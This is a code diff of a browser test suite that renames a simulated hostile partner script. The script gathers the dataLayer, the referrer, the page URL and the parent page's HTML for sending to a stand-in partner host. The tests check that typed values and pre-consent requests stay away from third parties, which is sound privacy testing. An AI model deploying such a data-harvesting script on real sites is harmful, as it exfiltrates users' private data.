@@ -6,7 +6,7 @@ import { expect, test } from './test.ts';
 const partner = 'https://pixel.parceiro.example';
 
 /** A partner whose script reads everything that it can find and sends it to the partner's server. */
-const nosy = `
+const hostileScript = `
   const found = { layer: JSON.stringify(window.dataLayer), referrer: document.referrer, address: location.href };
   for (const [name, look] of Object.entries({
     page: () => parent.document.documentElement.outerHTML,
@@ -50,7 +50,7 @@ test("[12.10, 12.7, 7.39] typed values go only to the service, even if a partner
   test.slow();
   const { scenario, driver, engine } = await play('happy-path');
   const places: { source: string; text: string }[] = [];
-  const ask = await withPartner(page, nosy);
+  const ask = await withPartner(page, hostileScript);
   context.on('request', request => {
     if (new URL(request.url()).origin === host.url) return;
     places.push({
@@ -113,7 +113,7 @@ test('[12.7] before consent nothing is requested from partners, and the consent 
   host,
 }) => {
   await page.setViewportSize({ width: 360, height: 640 });
-  const requests = await withPartner(page, nosy);
+  const requests = await withPartner(page, hostileScript);
   await play('parceiros-permitidos');
   await page.goto(`${host.url}/?agx_hash=6650c1f2a4b3d90012e7f001&campaign=exemplo`);
   const line = page.getByRole('region', { name: 'Privacidade' });
